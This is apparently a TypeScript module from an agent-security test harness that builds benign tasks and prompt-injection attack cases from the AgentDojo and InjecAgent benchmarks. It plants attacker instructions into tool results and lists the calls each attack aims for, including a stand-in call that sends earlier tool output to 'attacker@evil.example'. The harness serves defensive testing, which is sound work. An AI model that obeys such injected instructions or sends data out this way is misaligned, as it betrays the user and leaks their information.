import type { ToolName } from '../../src/core/domain/identifiers.js';
import { isJsonObject, type JsonObject, type JsonValue } from '../../src/core/domain/json.js';
import type { Episode, TaskCall } from '../../test/support/episode.js';
import type { PlannedCall } from '../../test/support/obedient-model.js';
import { agentDojo, type DojoSuite, type DojoUserTask, fillSlots } from './agent-dojo.js';
import type { DataFolder } from './data-folder.js';
import { effectOf } from './tool-effects.js';

/** A task of a person, without any attack. */
export interface BenignCase {
  readonly id: string;
  readonly tools: Episode['tools'];
  readonly text: string;
  readonly task: readonly TaskCall[];
}

/** A task whose results hold an attack. */
export interface AttackCase extends BenignCase {
  /** The injected text. */
  readonly attack: string;
  readonly wanted: readonly PlannedCall[];
  /** After how many calls of the task the attack was read. */
  readonly after: number;
}

function toolOf(provider: string, name: string, description: string, parameters: JsonObject): Episode['tools'][number] {
  const { effect, destinations } = effectOf(name);
  return { name: toolName(provider, name), description, parameters, effect, destinations };
}

function toolName(provider: string, name: string): ToolName {
  const snake = name.replace(/([a-z0-9])([A-Z])/g, '$1_$2').toLowerCase();
  return `${provider}.${snake}` as ToolName;
}

function dojoTools(name: string, suite: DojoSuite): Episode['tools'] {
  return suite.tools.map((tool) => toolOf(name, tool.name, tool.description, tool.parameters));
}

function dojoTask(name: string, suite: DojoSuite, task: DojoUserTask, attack: string | undefined): readonly TaskCall[] {
  return task.calls.map(({ tool, args, result }) => ({ tool: toolName(name, tool), args, result: fillSlots(result, suite, attack) }));
}

function dojoBenign(data: DataFolder): readonly BenignCase[] {
  return Object.entries(agentDojo(data).suites).flatMap(([name, suite]) =>
    suite.user_tasks.map((task) => ({
      id: `${name}/${task.id}`,
      tools: dojoTools(name, suite),
      text: task.prompt,
      task: dojoTask(name, suite, task, undefined),
    })),
  );
}

function dojoAttacks(data: DataFolder): readonly AttackCase[] {
  const { suites, templates } = agentDojo(data);
  const cases: AttackCase[] = [];
  for (const [name, suite] of Object.entries(suites)) {
    for (const task of suite.user_tasks) {
      const after = 1 + task.calls.findIndex(({ result }) => result.includes('{{INJ:'));
      if (after === 0) continue;
      for (const injection of suite.injection_tasks) {
        for (const [templateName, template] of Object.entries(templates)) {
          const attack = template.replace('{goal}', () => injection.goal);
          cases.push({
            id: `${name}/${task.id}/${injection.id}/${templateName}`,
            tools: dojoTools(name, suite),
            text: task.prompt,
            task: dojoTask(name, suite, task, attack),
            attack,
            wanted: injection.calls.map(({ tool, args }) => ({ tool: toolName(name, tool), args })),
            after,
          });
        }
      }
    }
  }
  return cases;
}

interface InjecAgentCase {
  readonly 'User Tool': string;
  readonly 'User Instruction': string;
  readonly 'Tool Parameters': string;
  readonly 'Tool Response': string;
  readonly 'Tool Response Template': string;
  readonly 'Attacker Tools': readonly string[];
  readonly 'Attacker Instruction': string;
}

const ANY: JsonObject = { type: 'object' };

/** The parameters are written as Python writes a dictionary. */
function parametersOf(text: string): JsonObject {
  try {
    const value = JSON.parse(
      text
        .replace(/'/g, '"')
        .replace(/\bTrue\b/g, 'true')
        .replace(/\bFalse\b/g, 'false')
        .replace(/\bNone\b/g, 'null'),
    ) as JsonValue;
    return isJsonObject(value) ? value : { value };
  } catch {
    return { parameters: text };
  }
}

function userCall(item: InjecAgentCase, result: string): TaskCall {
  return { tool: toolName('inject', item['User Tool']), args: parametersOf(item['Tool Parameters']), result };
}

function injecBenign(data: DataFolder): readonly BenignCase[] {
  return data.jsonLines<InjecAgentCase>('injecagent/user_cases.jsonl').map((item, index) => ({
    id: `injecagent/${index}`,
    tools: [toolOf('inject', item['User Tool'], '', ANY)],
    text: item['User Instruction'],
    task: [userCall(item, item['Tool Response Template'].replace('<Attacker Instruction>', 'All good.'))],
  }));
}

function injecAttacks(data: DataFolder): readonly AttackCase[] {
  const templates = data.has('agentdojo') ? agentDojo(data).templates : { direct: '{goal}' };
  return (['dh', 'ds'] as const).flatMap((kind) =>
    data.json<readonly InjecAgentCase[]>(`injecagent/${kind}_base.json`).flatMap((item, index) =>
      Object.entries(templates).map(([templateName, template]) => {
        const goal = item['Attacker Instruction'];
        const attack = template.replace('{goal}', () => goal);
        const wanted = item['Attacker Tools'].map((tool, place) => ({
          tool: toolName('inject', tool),
          args: { instruction: goal, ...(place > 0 ? { to: 'attacker@evil.example', body: 'what the tool before gave' } : {}) },
        }));
        const names = new Set([item['User Tool'], ...item['Attacker Tools']]);
        return {
          id: `injecagent/${kind}/${index}/${templateName}`,
          tools: [...names].map((tool) => toolOf('inject', tool, '', ANY)),
          text: item['User Instruction'],
          task: [
            userCall(
              item,
              item['Tool Response'].replace(goal, () => attack),
            ),
          ],
          attack,
          wanted,
          after: 1,
        };
      }),
    ),
  );
}

/** The tasks of the data sets that are there. */
export function benignCases(data: DataFolder): readonly BenignCase[] {
  return [...(data.has('agentdojo') ? dojoBenign(data) : []), ...(data.has('injecagent') ? injecBenign(data) : [])];
}

/** The attacks of the data sets that are there: each task with each goal in each template. */
export function attackCases(data: DataFolder): readonly AttackCase[] {
  return [...(data.has('agentdojo') ? dojoAttacks(data) : []), ...(data.has('injecagent') ? injecAttacks(data) : [])];
}

/** The same call in other words: its free texts are changed, what it is about is not. */
export function inOtherWords({ tool, args }: PlannedCall, tools: Episode['tools']): PlannedCall {
  const destinations = tools.find(({ name }) => name === tool)?.destinations ?? [];
  const changed = Object.entries(args).map(([name, value]) => [
    name,
    typeof value === 'string' && value.includes(' ') && !destinations.includes(name) ? `${value} Thank you.` : value,
  ]);
  return { tool, args: Object.fromEntries(changed) as JsonObject };
}
